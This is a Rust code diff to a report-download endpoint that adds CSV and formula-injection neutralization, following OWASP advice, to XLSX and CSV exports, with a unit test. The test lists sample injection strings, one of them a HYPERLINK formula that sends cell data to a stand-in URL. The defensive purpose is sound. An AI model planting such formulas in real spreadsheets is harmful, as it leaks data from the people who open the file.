@@ -1,4 +1,6 @@
 //! `GET /reports/{planCode}/{periodCode}.xlsx|.csv`: the consolidated report as a file.
+use std::borrow::Cow;
+
 use axum::{
     extract::{Path, State},
     http::{HeaderMap, HeaderValue, StatusCode, header},
@@ -29,36 +31,63 @@ pub async fn consolidated(
     }
 }
 
+/// The file formats of the report.
+#[derive(Clone, Copy)]
+enum FileFormat {
+    Xlsx,
+    Csv,
+}
+
+impl FileFormat {
+    /// Splits `PERIOD.xlsx` or `PERIOD.csv` into the period code and the format.
+    fn split(file: &str) -> Result<(&str, Self), ServiceError> {
+        let (period_code, extension) = file
+            .rsplit_once('.')
+            .ok_or_else(|| ServiceError::bad_input("ask for PERIOD.xlsx or PERIOD.csv"))?;
+        let format = match extension {
+            "xlsx" => Self::Xlsx,
+            "csv" => Self::Csv,
+            other => {
+                return Err(ServiceError::bad_input(format!(
+                    "unknown report format `{other}`: use xlsx or csv"
+                )));
+            }
+        };
+        Ok((period_code, format))
+    }
+
+    fn extension(self) -> &'static str {
+        match self {
+            Self::Xlsx => "xlsx",
+            Self::Csv => "csv",
+        }
+    }
+}
+
 async fn render(
     app: &super::App,
     headers: &HeaderMap,
     plan_code: &str,
     file: &str,
 ) -> Result<Response, ServiceError> {
+    // The format is checked first: an unknown one costs no database work at all.
+    let (period_code, format) = FileFormat::split(file)?;
     let Session::SignedIn { scope, .. } = authenticate(app, headers).await? else {
         return Err(ServiceError::Unauthenticated);
     };
-    let (period_code, extension) = file
-        .rsplit_once('.')
-        .ok_or_else(|| ServiceError::bad_input("ask for PERIOD.xlsx or PERIOD.csv"))?;
     let report = report::build(&app.db, &scope, plan_code, period_code).await?;
     let name = format!("bao-cao-{}-{}", slug(&report.plan.code), slug(period_code));
-    let (content_type, body) = match extension {
-        "xlsx" => (
+    let (content_type, body) = match format {
+        FileFormat::Xlsx => (
             XLSX,
             xlsx(&report).map_err(|e| ServiceError::Internal(format!("xlsx: {e}")))?,
         ),
-        "csv" => (
+        FileFormat::Csv => (
             "text/csv; charset=utf-8",
             csv(&report).map_err(|e| ServiceError::Internal(format!("csv: {e}")))?,
         ),
-        other => {
-            return Err(ServiceError::bad_input(format!(
-                "unknown report format `{other}`: use xlsx or csv"
-            )));
-        }
     };
-    let disposition = format!("attachment; filename=\"{name}.{extension}\"");
+    let disposition = format!("attachment; filename=\"{name}.{}\"", format.extension());
     Ok((
         StatusCode::OK,
         [
@@ -81,6 +110,20 @@ fn slug(text: &str) -> String {
         .collect()
 }
 
+/// A text cell as the spreadsheet gets it: text that a spreadsheet program would take
+/// for a formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a
+/// leading `'`, as OWASP recommends against CSV injection, so that a district's
+/// `=HYPERLINK(…)` shows as text in the coordinator's report. Every text cell of both
+/// formats goes through here.
+fn text_cell(text: &str) -> Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
+    }
+}
+
+/// The text cells of a report row, neutralized.
 fn cells(row: &report::ReportRow) -> [String; 13] {
     [
         row.section.clone(),
@@ -97,6 +140,7 @@ fn cells(row: &report::ReportRow) -> [String; 13] {
         row.submitted_on.clone().unwrap_or_default(),
         row.reviewed_on.clone().unwrap_or_default(),
     ]
+    .map(|cell| text_cell(&cell).into_owned())
 }
 
 const SUMMARY_HEADINGS: [&str; 9] = [
@@ -132,7 +176,7 @@ fn xlsx(report: &ConsolidatedReport) -> Result<Vec<u8>, XlsxError> {
     let sheet = workbook.add_worksheet();
     sheet.set_name("Báo cáo")?;
     for (col, heading) in HEADINGS.iter().enumerate() {
-        sheet.write_string_with_format(0, col as u16, *heading, &bold)?;
+        sheet.write_string_with_format(0, col as u16, text_cell(heading), &bold)?;
     }
     for (i, row) in report.rows.iter().enumerate() {
         for (col, value) in cells(row).iter().enumerate() {
@@ -149,12 +193,8 @@ fn xlsx(report: &ConsolidatedReport) -> Result<Vec<u8>, XlsxError> {
     let summary = workbook.add_worksheet();
     summary.set_name("Tổng hợp")?;
     let mut line = 0;
-    summary.write_string_with_format(
-        line,
-        0,
-        format!("{} — kỳ báo cáo {}", report.plan.code, report.period_code),
-        &bold,
-    )?;
+    let title = format!("{} — kỳ báo cáo {}", report.plan.code, report.period_code);
+    summary.write_string_with_format(line, 0, text_cell(&title), &bold)?;
     line += 2;
     let groups: [(&str, Vec<(String, &ProgressCounts)>); 2] = [
         (
@@ -175,14 +215,14 @@ fn xlsx(report: &ConsolidatedReport) -> Result<Vec<u8>, XlsxError> {
         ),
     ];
     for (title, rows) in groups {
-        summary.write_string_with_format(line, 0, title, &bold)?;
+        summary.write_string_with_format(line, 0, text_cell(title), &bold)?;
         line += 1;
         for (col, heading) in SUMMARY_HEADINGS.iter().enumerate() {
-            summary.write_string_with_format(line, col as u16, *heading, &bold)?;
+            summary.write_string_with_format(line, col as u16, text_cell(heading), &bold)?;
         }
         line += 1;
         for (label, counts) in rows {
-            summary.write_string(line, 0, label)?;
+            summary.write_string(line, 0, text_cell(&label))?;
             for (col, number) in summary_numbers(counts).iter().enumerate() {
                 summary.write_number(line, col as u16 + 1, *number)?;
             }
@@ -199,11 +239,33 @@ fn csv(report: &ConsolidatedReport) -> Result<Vec<u8>, csv::Error> {
     let mut out = "\u{feff}".as_bytes().to_vec();
     {
         let mut writer = csv::Writer::from_writer(&mut out);
-        writer.write_record(HEADINGS)?;
+        writer.write_record(HEADINGS.map(|heading| text_cell(heading).into_owned()))?;
         for row in &report.rows {
             writer.write_record(cells(row))?;
         }
         writer.flush()?;
     }
     Ok(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn text_that_reads_as_a_formula_is_neutralized() {
+        for formula in [
+            "=HYPERLINK(\"http://x\"&A1,\"y\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(1)",
+            "\t=1+1",
+            "\r=1+1",
+        ] {
+            assert_eq!(text_cell(formula), format!("'{formula}"));
+        }
+        for text in ["Đã tổ chức 3 hội nghị", "1+1", "", "a=b", "'quoted"] {
+            assert_eq!(text_cell(text), text);
+        }
+    }
 }
